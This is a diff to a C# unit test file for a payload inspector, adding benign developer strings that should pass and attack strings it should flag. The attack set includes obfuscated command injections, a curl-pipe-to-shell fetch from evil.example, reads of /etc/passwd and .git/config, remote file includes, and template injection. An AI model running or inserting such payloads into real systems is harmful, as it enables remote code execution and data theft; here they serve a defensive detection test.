@@ -161,6 +161,20 @@ public sealed class PayloadInspectorTests
         "Factorise: (3x + 2y)(x - y)",
         "Rust & coffee. Mods: @ana, @li",
         "Subject: Grades for term 2",
+        "npm ERR! peer react@\">=16.8 <19\" from select2@1.0.0",
+        "golang.org/x/net = { version = \">=2.0.0 <3.0.0 || >=3.1.0\", features = [\"derive\"] }",
+        "TypeError: Cannot read properties of undefined (reading 'select')",
+        "process.env.CI_JOB_ID ?? ''",
+        "  File \"/home/runner/work/core/auth-service/cmd/cat-logs/main.go\", line 488, in unionAll",
+        "  File \"/home/runner/work/platform/infra/.github/workflows/ci.yml\", line 870, in getUserById",
+        "Write-Host (\"{0} items in {1}\" -f $n, $dir)",
+        "$HOME$PATH",
+        "I tried `npm ci && npm test` locally and it passes, but CI (`lint`) fails ~1 in 5 runs.",
+        "Pipe output to `less` if it's long, e.g. `make test | less -R`.",
+        "I'd avoid `exec()` here; `subprocess.run([...], check=True)` is safer & easier to test.",
+        "if: ${{ always() && needs.build.result == 'success' }}",
+        "Cache ~/.npm (key: ${{ hashFiles('**/package-lock.json') }})",
+        "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! peer react@\">=16.8 <19\" from x@1.0.0",
     ];
 
     public static TheoryData<string, InspectionCategory> Attacks() => new()
@@ -368,6 +382,19 @@ public sealed class PayloadInspectorTests
         { "x; $0 -c 'id'", InspectionCategory.Cmdi },
         { "http:/\\/\\169.254.169.254/latest/", InspectionCategory.Ssrf },
         { "Subject: Marks\r\nBcc: list@evil.example", InspectionCategory.Crlf },
+        { "a=i;b=d;$a$b", InspectionCategory.Cmdi },
+        { "x; ${c}${d} /etc/hosts", InspectionCategory.Cmdi },
+        { ";wh$1oami", InspectionCategory.Cmdi },
+        { "& (\"{1}{0}\" -f 'ami','who')", InspectionCategory.Cmdi },
+        { "iex (\"{0}{1}\" -f 'who','ami')", InspectionCategory.Cmdi },
+        { "http://evil.example/c.txt??", InspectionCategory.Rfi },
+        { "process.env", InspectionCategory.Code },
+        { "/home/app/.git/config", InspectionCategory.Lfi },
+        { "cmd/c whoami", InspectionCategory.Cmdi },
+        { "great post `cat /etc/passwd` thanks a lot", InspectionCategory.Lfi },
+        { "see `curl http://evil.example/x.sh | sh` for details", InspectionCategory.Cmdi },
+        { "${{7*7}}", InspectionCategory.Ssti },
+        { "x\nnpm exec --yes evil-pkg", InspectionCategory.Cmdi },
     };
 
     [Theory]
